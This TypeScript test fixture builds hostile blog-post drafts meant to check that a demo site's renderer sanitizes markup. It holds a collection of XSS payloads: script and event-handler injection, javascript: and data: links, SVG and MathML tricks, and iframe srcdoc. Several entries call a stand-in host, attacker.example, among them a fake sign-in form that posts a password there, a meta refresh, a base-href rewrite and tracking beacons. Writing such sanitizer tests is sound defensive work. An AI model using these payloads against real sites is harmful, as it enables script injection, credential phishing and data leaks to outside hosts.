import type { DemoPost } from '../../server/demo/world/posts.ts';
import { longText } from './long-text.ts';

/** Markup that must have no effect wherever it is shown, by what it tries. */
const attacks: Record<string, string> = {
  script: '<p>before</p><script>window.attacked = true</script><p>after</p>',
  'script in pieces': '<scr<script>ipt>window.attacked = true</scr</script>ipt>',
  'event handlers':
    '<img src="x" onerror="window.attacked = true"><p onclick="window.attacked = true" onmouseover=alert(1)>text</p>',
  'javascript links':
    '<a href="javascript:window.attacked=true">one</a><a href=" java\tscript:alert(1)">two</a><a href="&#106;avascript:alert(1)">three</a><a href="vbscript:msgbox(1)">four</a>',
  'data links': '<a href="data:text/html,<script>parent.attacked=true</script>">open</a>',
  forms:
    '<form action="https://attacker.example/collect"><label>Password<input name="password" type="password"></label><button>Sign in</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><p>text</p>',
  'a new base': '<base href="https://attacker.example/"><a href="/signin/">Sign in</a>',
  'styles that cover the page':
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">covered</div><style>body{display:none}</style>',
  'styles that call out':
    '<style>@import "https://attacker.example/a.css"; p{background:url(https://attacker.example/b.png)}</style><p style="background:url(https://attacker.example/c.png)">text</p>',
  beacons:
    '<img src="https://attacker.example/pixel.gif" width="1" height="1"><link rel="prefetch" href="https://attacker.example/"><video src="https://attacker.example/v.mp4" autoplay></video>',
  svg: '<svg onload="window.attacked=true"><script>window.attacked=true</script><a xlink:href="javascript:alert(1)"><text y="20">text</text></a><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  mathml:
    '<math><mtext><table><mglyph><style><img src="x" onerror="window.attacked=true"></style></mglyph></table></mtext></math>',
  frames:
    '<iframe srcdoc="<script>parent.parent.attacked=true</script>"></iframe><object data="https://attacker.example/"></object><embed src="https://attacker.example/">',
  'broken markup':
    '<p><b><i>never closed <table><tr><td>cell</p></b><!-- <img src=x onerror=alert(1)> --!><div',
  'names that shadow':
    '<img name="getElementById"><form id="body" name="cookie"><input name="attributes"></form>',
  'turned text':
    '<p>invoice\u202Egpj.exe and \u2066isolated without an end</p><a href="https://attacker.example/">https://renas.example/</a>',
  'invisible text':
    '<p>a\u200Bb\u200Cc\u2060d\uFEFFe</p><p>Z\u0351\u036B\u0343\u036A\u0302a\u0334\u030Al\u0321go</p>',
  'placeholders in a value': '<p>{{ lead }} {{{ body_html }}} ${process.env.HOME} {{constructor}}</p>',
  'deep nesting': `${'<div>'.repeat(400)}core${'</div>'.repeat(400)}`,
  'a wide table and a long word': `<table><tr>${'<td>wide cell</td>'.repeat(60)}</tr></table><p>${'long'.repeat(400)}</p>`,
};

const FIRST_PK = 9001;

/** A subject and names that try the same in plain text. */
const subject = (aim: string): string => `Hostile <b onmouseover=alert(1)>${aim}</b> "quoted" & {{ lead }}`;

/**
 * Test data, not part of the demo world's blog: one draft for each way of attacking a reader by the body of a post, and
 * one of about 20,000 words. Nothing in them may run, leave the frame or cover the page.
 */
export const hostilePosts: readonly DemoPost[] = [
  ...Object.entries(attacks).map(([aim, body]) => ({
    subject: subject(aim),
    summary: `A body that tries: ${aim}. <script>window.attacked = true</script>`,
    author: 'Robert"); <img src=x onerror=alert(1)>',
    body,
  })),
  {
    subject: `A very long way: ${'on and on '.repeat(24)}to the end`,
    summary: 'A post of about 20,000 words, to try measuring, scrolling and reading time.',
    author: 'Wolfeschlegelsteinhausenbergerdorff-Barzanî',
    body: longText(20_000),
  },
].map(({ body, ...text }, index) => ({
  ...text,
  pk: FIRST_PK + index,
  language: 'en' as const,
  publishedDay: null,
  template: 'article' as const,
  values: { lead: text.summary, body_html: body, closing: 'The end of it.' },
  picture: index + 1,
  group: null,
}));
